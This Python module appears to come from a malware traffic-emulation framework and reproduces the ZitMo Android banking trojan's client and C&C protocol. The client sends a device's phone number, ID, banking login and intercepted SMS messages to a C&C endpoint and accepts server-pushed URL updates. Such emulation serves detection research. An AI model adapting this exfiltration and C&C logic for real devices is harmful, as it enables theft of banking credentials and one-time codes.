"""ZitMo (second Android variant) client state machine and C&C."""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable
from urllib.parse import urlsplit

from ..alerts import TrafficEvent
from ..codecs import (
    ZITMO_KEY,
    ZitMoMessage,
    ZitmoFormatError,
    ZitmoResponse,
    url_list_crc,
    zitmo_decrypt,
    zitmo_encrypt,
    zitmo_format,
    zitmo_format_response,
    zitmo_parse,
    zitmo_parse_response,
)
from .http import HttpRequest, HttpResponse, PortAllocator, request_event

SETTINGS_PATH = "/data/data/com.guard.smart/cfg.txt"
USER_AGENT = "Dalvik/1.6.0 (Linux; U; Android 4.0.4)"


@dataclass
class ZitMoClientConfig:
    phone: str = "+15555215554"
    devid: str = "358240051111110"
    key16: str = ZITMO_KEY
    cnc_urls: list[str] = field(default_factory=lambda: ["http://172.17.0.1:8000/ss/app.php"])
    ping_interval_ticks: int = 15  # 1 tick = 1 minute
    account: str = ""
    settings_path: str = SETTINGS_PATH
    device_ip: str = "192.168.0.23"

    def __post_init__(self):
        if len(self.key16.encode("utf-8")) != 16:
            raise ValueError("key16 must be 16 bytes")
        if not self.cnc_urls:
            raise ValueError("at least one C&C URL is required")
        if self.ping_interval_ticks < 1:
            raise ValueError("ping_interval_ticks must be >= 1")


# transport(request, host_ip, port) -> response, or None when the request was dropped
Transport = Callable[[HttpRequest, str, int], "HttpResponse | None"]


def wire_request(url: str, body_b64: str) -> HttpRequest:
    """HTTP carriage: the Base64 ciphertext is the whole text/plain POST body."""
    parts = urlsplit(url)
    body = body_b64.encode("ascii")
    headers = (
        ("Host", parts.netloc),
        ("User-Agent", USER_AGENT),
        ("Content-Type", "text/plain"),
        ("Content-Length", str(len(body))),
    )
    return HttpRequest("POST", parts.path or "/", headers, body)


def _endpoint(url: str) -> tuple[str, int]:
    parts = urlsplit(url)
    return parts.hostname, parts.port or 80


class ZitmoClient:
    """Device-side behaviour driven by local events (boot, account entry, incoming SMS)."""

    def __init__(self, cfg: ZitMoClientConfig, transport: Transport, storage_root: str | Path | None = None,
                 pace: Callable[[int], None] | None = None):
        self.cfg = cfg
        self.pace = pace
        self.transport = transport
        self.storage_root = Path(storage_root) if storage_root is not None else None
        self.urls = list(cfg.cnc_urls)
        self.urls_updated = False
        self.login = cfg.account
        self.booted = False
        self.ports = PortAllocator()
        self.events: list[TrafficEvent] = []
        self.sent: list[str] = []  # plaintext bodies in send order
        self.responses: list[ZitmoResponse | None] = []

    @property
    def settings_file(self) -> Path | None:
        if self.storage_root is None:
            return None
        return self.storage_root / self.cfg.settings_path.lstrip("/")

    def save_settings(self) -> None:
        path = self.settings_file
        if path is None:
            return
        path.parent.mkdir(parents=True, exist_ok=True)
        lines = [f"login={self.login}", f"updated={int(self.urls_updated)}"] + [f"url={u}" for u in self.urls]
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")

    def load_settings(self) -> bool:
        path = self.settings_file
        if path is None or not path.exists():
            return False
        urls = []
        for line in path.read_text(encoding="utf-8").splitlines():
            key, _, value = line.partition("=")
            if key == "login":
                self.login = value
            elif key == "updated":
                self.urls_updated = value == "1"
            elif key == "url":
                urls.append(value)
        if urls:
            self.urls = urls
        return True

    def _send(self, ts: int, msg: ZitMoMessage) -> ZitmoResponse | None:
        text = zitmo_format(msg)
        self.sent.append(text)
        req = wire_request(self.urls[0], zitmo_encrypt(self.cfg.key16, text))
        host, port = _endpoint(self.urls[0])
        self.events.append(request_event(ts, self.cfg.device_ip, self.ports.take(), host, port, req,
                                         seq=len(self.events)))
        resp = self.transport(req, host, port)
        parsed = None
        if resp is not None and resp.status == 200 and resp.body:
            try:
                parsed = zitmo_parse_response(zitmo_decrypt(self.cfg.key16, resp.body.decode("ascii")))
            except (ZitmoFormatError, UnicodeDecodeError):
                parsed = None
        self.responses.append(parsed)
        if parsed is not None and parsed.kind == "update":
            self.urls = list(parsed.urls)
            self.urls_updated = True
            self.save_settings()
        return parsed

    def _timer(self, ts: int, with_urls: bool) -> None:
        self._send(ts, ZitMoMessage(
            services="timer", login=self.login, phone=self.cfg.phone, devid=self.cfg.devid,
            dd=url_list_crc(self.urls), flag=int(self.urls_updated),
            urls=list(self.urls) if with_urls else None,
        ))

    def boot(self, ts: int) -> None:
        self.load_settings()
        self.booted = True
        self._timer(ts, with_urls=True)

    def ping(self, ts: int) -> None:
        self._timer(ts, with_urls=False)

    def account_entry(self, ts: int, account: str) -> None:
        self.login = account
        self.save_settings()
        self._send(ts, ZitMoMessage(services="login", login=account, phone=self.cfg.phone, devid=self.cfg.devid))

    def incoming_sms(self, ts: int, text: str, number: str) -> None:
        self._send(ts, ZitMoMessage(services="sms", text=text, number=number, login=self.login))

    def run(self, script, ticks: int | None = None) -> list[TrafficEvent]:
        """Play ``script`` and emit timer pings every ``ping_interval_ticks`` after boot.

        Script items are ``"boot"``, ``("account_entry", text)``,
        ``("incoming_sms", text, number)`` or dicts with an ``event`` key and
        optional ``tick``; items without a tick run at their list index.
        """
        items = sorted((_normalize(i, item) for i, item in enumerate(script)), key=lambda x: x[0])
        last = max([t for t, *_ in items], default=-1)
        ticks = last + 1 if ticks is None else ticks
        boot_tick = None
        pending = list(items)
        for ts in range(ticks):
            if self.pace is not None:
                self.pace(ts)
            if boot_tick is not None and ts > boot_tick and (ts - boot_tick) % self.cfg.ping_interval_ticks == 0:
                self.ping(ts)
            while pending and pending[0][0] == ts:
                _, name, args = pending.pop(0)
                if name == "boot":
                    boot_tick = ts
                    self.boot(ts)
                elif not self.booted:
                    continue  # the app is not running yet
                elif name == "account_entry":
                    self.account_entry(ts, *args)
                elif name == "incoming_sms":
                    self.incoming_sms(ts, *args)
        return self.events


def _normalize(index: int, item) -> tuple[int, str, tuple]:
    if isinstance(item, str):
        name, args, tick = item, (), index
    elif isinstance(item, dict):
        name = item["event"]
        tick = item.get("tick", index)
        if name == "account_entry":
            args = (item["text"],)
        elif name == "incoming_sms":
            args = (item["text"], item["number"])
        else:
            args = ()
    else:
        name, *rest = item
        args, tick = tuple(rest), index
    if name not in ("boot", "account_entry", "incoming_sms"):
        raise ValueError(f"unknown script event {name!r}")
    return tick, name, args


@dataclass
class ZitmoCnc:
    """C&C answering timer messages with a URL list when the client's dd is stale."""

    key16: str = ZITMO_KEY
    urls: list[str] | None = None
    received: list[ZitMoMessage] = field(default_factory=list)

    def queue_update(self, urls: list[str]) -> None:
        self.urls = list(urls)

    def reply_text(self, msg: ZitMoMessage) -> str:
        if msg.services == "timer":
            if self.urls and msg.dd != url_list_crc(self.urls):
                return zitmo_format_response(ZitmoResponse("update", self.urls))
            return zitmo_format_response(ZitmoResponse("nochange"))
        return zitmo_format_response(ZitmoResponse("empty"))

    def serve(self, req: HttpRequest) -> HttpResponse:
        try:
            msg = zitmo_parse(zitmo_decrypt(self.key16, req.body.decode("ascii").strip()))
        except (ZitmoFormatError, UnicodeDecodeError, ValueError):
            return HttpResponse(200, (("Content-Type", "text/plain"),), b"")
        self.received.append(msg)
        body = zitmo_encrypt(self.key16, self.reply_text(msg)).encode("ascii")
        return HttpResponse(200, (("Content-Type", "text/plain"),), body)


def in_process(server) -> Transport:
    return lambda req, host, port: server.serve(req)


def zitmo_client_run(cfg: ZitMoClientConfig, script, ticks: int | None = None, cnc: ZitmoCnc | None = None,
                     storage_root=None) -> list[TrafficEvent]:
    cnc = cnc or ZitmoCnc(key16=cfg.key16)
    return ZitmoClient(cfg, in_process(cnc), storage_root).run(script, ticks)
